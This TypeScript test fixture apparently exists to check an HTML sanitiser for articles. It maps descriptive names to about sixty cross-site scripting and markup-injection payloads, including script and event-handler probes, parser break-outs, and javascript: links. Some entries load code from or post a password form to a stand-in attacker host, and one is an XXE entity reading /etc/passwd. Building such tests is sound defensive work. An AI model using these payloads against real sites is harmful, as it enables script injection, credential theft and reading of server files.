/** Ways to make an article harm its readers, each by name. Used by tests only. */
export const hostileTricks: Record<string, string> = {
  'script, plain': '<script>alert(1)</script>',
  'script, nested in itself': '<scr<script>ipt>alert(1)</scr</script>ipt>',
  'script, unclosed': '<script>alert(1)',
  'script, with a slash': '<script/src=//evil.example/x.js></script>',
  'script, upper case and newline': '<SCRIPT\n>alert(1)</SCRIPT\n>',
  'handler on an image': '<img src=x onerror=alert(1)>',
  'handler without a space': '<img/src="x"/onerror="alert(1)">',
  'handler on details': '<details open ontoggle=alert(1)>x</details>',
  'handler on a drawing': '<svg onload=alert(1)><circle r=1 /></svg>',
  'handler on the body': '<body onload=alert(1)>x</body>',
  'handler on a video': '<video src=x onerror=alert(1) autoplay></video>',
  'javascript link': '<a href="javascript:alert(1)">x</a>',
  'javascript link with a tab': '<a href="java\tscript:alert(1)">x</a>',
  'javascript link in entities': '<a href="&#x6A;avascript&colon;alert(1)">x</a>',
  'javascript link after a control character': '<a href="\u0001javascript:alert(1)">x</a>',
  'data link': '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  'vbscript link': '<a href="vbscript:msgbox(1)">x</a>',
  'foreign frame': '<iframe src="https://evil.example"></iframe>',
  'frame with its own document': '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  'frame that hides markup': '<iframe><img src=x onerror=alert(1)></iframe>',
  'a video frame with more':
    '<iframe src="https://youtu.be/dQw4w9WgXcQ" onload="alert(1)" srcdoc="x">',
  'object and embed': '<object data="x.swf"><embed src="x.swf"></object>',
  'drawing that breaks out': '<svg><style><img src=x onerror=alert(1)></style></svg>',
  'mathematics that break out':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  'annotation that breaks out':
    '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
  'foreign object': '<svg><foreignObject><iframe src="javascript:alert(1)"></foreignObject></svg>',
  'animated link':
    '<svg><a><animate attributeName=href values="javascript:alert(1)" /><text>x</text></a></svg>',
  'noscript break-out': '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  'xmp break-out': '<xmp><img src=x onerror=alert(1)></xmp>',
  'textarea break-out': '<textarea></textarea/><img src=x onerror=alert(1)></textarea>',
  'title break-out': '<title><img src=x onerror=alert(1)></title>',
  'template break-out': '<template><script>alert(1)</script></template>',
  'plaintext that never ends': '<plaintext><img src=x onerror=alert(1)>',
  'style attribute': '<p style="position:fixed;inset:0;background:url(javascript:alert(1))">x</p>',
  'style element': '<style>@import "//evil.example/x.css"; *{display:none}</style>',
  'linked style sheet': '<link rel="stylesheet" href="//evil.example/x.css">',
  'form that steals':
    '<form action="//evil.example"><input name="password"><button formaction="javascript:alert(1)">x</button></form>',
  'another base': '<base href="//evil.example/">',
  refresh: '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  'clobbering names':
    '<img src="/a" name="location" id="location"><a id="__reactRouterContext" name="body">x</a>',
  'overlay by class':
    '<a href="https://evil.example" class="fixed inset-0 z-50" target="_blank">Continuer</a>',
  'leaving the article': '</div></article></main></body></html><h1>x</h1>',
  'never closed': '<div><table><tr><td><a href="/x"><b>',
  'image sources':
    '<img src="/a" srcset="javascript:alert(1) 1x, //evil.example/b 2x" lowsrc="javascript:x">',
  'poster, ping and link types':
    '<video poster="javascript:alert(1)"></video><a ping="//evil.example" href="/x">x</a>',
  xlink: '<a xlink:href="javascript:alert(1)">x</a>',
  'attribute that breaks out': '<p title="&quot;><script>alert(1)</script>">x</p>',
  'attribute with a slash in its name': '<p/onclick=alert(1)//a="b">x</p>',
  'comment that breaks out':
    '<!--><img src=x onerror=alert(1)>--><!--[if IE]><script>x</script><![endif]-->',
  'processing instructions':
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
  'data in brackets': '<![CDATA[<img src=x onerror=alert(1)>]]>',
  'our own marks':
    '<div class="table-scroll" onfocus="alert(1)" tabindex="9" dir="ours"><small class="partner-label" dir="ours">Gratuit</small></div>',
  'list that leaves the page’s own boxes':
    '<ul><li><div><div><div><li>x</li></div></div></div></li></ul><h2>Dehors</h2>',
  'definition that leaves them':
    '<dl><dt><div><div><div><dt>x</dt></div></div></div></dt></dl><h2>Dehors</h2>',
  'table that leaves them':
    '<table><tr><div><div><table><tr><td>x</td></tr></table></div></div></tr></table><h2>Dehors</h2>',
  'right to left': '<p>\u202e txt.exe \u2028\u2029\ufeff</p>',
  null: '<scr\u0000ipt>alert(1)</scr\u0000ipt><img src="java\u0000script:x">',
  'lone surrogate': '<p title="\ud800">\udfff</p>',
  'template syntax': '{{7*7}} \u0024{7*7} <%= 7 %> ]]> --> </title>',
}
